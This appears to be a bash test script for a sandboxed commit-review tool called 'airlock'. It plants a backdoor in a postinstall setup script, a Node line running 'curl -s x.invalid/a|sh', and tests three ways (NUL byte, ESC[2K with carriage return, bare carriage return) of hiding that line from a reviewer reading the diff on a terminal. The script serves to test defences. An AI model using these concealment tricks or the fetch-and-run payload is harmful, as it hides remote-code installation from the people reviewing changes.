#!/bin/bash
# 05 (phase 1): what `airlock diff --commit` shows the user who must accept
# a commit. The user's postinstall runs tools/setup.js; C1 backdoors it
# (named by the refusal, as it should be), C2 reverts. The backdoor is
# made to not read as one in the diff on a terminal:
#  V=nul  (default) a NUL byte in a trailing comment (node runs the file):
#         the diff says "Binary files differ" and shows nothing.
#  V=esc  the curl|sh line ends in a // comment holding ESC[2K CR and an
#         honest-looking "+console.log(...)": a terminal clears the line
#         and shows only the decoy.
#  V=cr   a bare CR (node takes it as a line break) between a decoy and
#         the curl|sh line: a terminal overwrites the decoy... or shows
#         only what follows the CR.
# Got through = the raw bytes of `airlock diff --commit` would, on a
# terminal, not show the curl|sh (control bytes passed through, or no
# content shown), while accepting that commit brings it.
. "$(dirname "$0")/../lib.sh"; . "$(dirname "$0")/../ignwalk/common.sh"; . "$(dirname "$0")/../history/common.sh"; . "$(dirname "$0")/common.sh"
MODE=${1:-direct}; V=${V:-nul}
NPKG=2 mkproj; mkdir -p tools && echo 'console.log("setup ok")' > tools/setup.js
printf '{"name":"p","version":"1.0.0","main":"out/extension.js","scripts":{"build":"tsc","postinstall":"node tools/setup.js"}}\n' > package.json
write_sandbox "$MODE"; up_sandbox
cat > "$T/plant.sh" <<'P'
set -e
cp tools/setup.js /tmp/s
E='require("child_process").execSync("curl -s x.invalid/a|sh")'
case "$V" in
esc) printf '%s //\033[2K\r+console.log("setup ok, v2")\n' "$E" > tools/setup.js;;
nul) printf '%s // \000\n' "$E" > tools/setup.js;;
cr) printf 'console.log("setup ok, v2")\r%s\n' "$E" > tools/setup.js;;
esac
git commit -qam "C1 setup"; cp /tmp/s tools/setup.js; git commit -qam "C2"; echo "// x" >> src/extension.ts; git commit -qam C3
P
plant "$T/plant.sh" "V=$V"
sleep 0.5
as_told disp 'x.invalid/a'
c=$(grep -o 'commit [0-9a-f]\{12\}: tools/setup.js' "$T/apply.log" "$T/apply1.log" 2>/dev/null | head -1 | awk '{print $2}' | tr -d :)
[ -n "$c" ] || { echo "  setup.js not named"; has_branch && hist_has 'x.invalid/a' && R=1; finish; }
airlock diff "$N" --commit "$c" tools/setup.js > "$T/raw" 2>&1
echo "  raw diff bytes (od -c of the + lines):"; grep -a '^+[^+]' "$T/raw" | od -c | head -8 | sed 's/^/    /'
# what a terminal shows: per line, the text after the last CR or ESC[2K
shown=$(python3 - "$T/raw" <<'Q'
import re,sys
for l in open(sys.argv[1],'rb').read().split(b'\n'):
    l=re.split(rb'\r|\x1b\[2K',l)[-1]
    print(l.decode('utf-8','replace'))
Q
)
echo "  a terminal shows:"; echo "$shown" | sed 's/^/    /' | head -10
BR=t-disp
if has_branch && git log -p --text --format= "$BR" | grep -q "x.invalid/a" && ! echo "$shown" | grep -q 'x.invalid/a'; then echo "  the accepted commit brings curl|sh; the diff shown on a terminal does not show it"; R=1; fi
finish
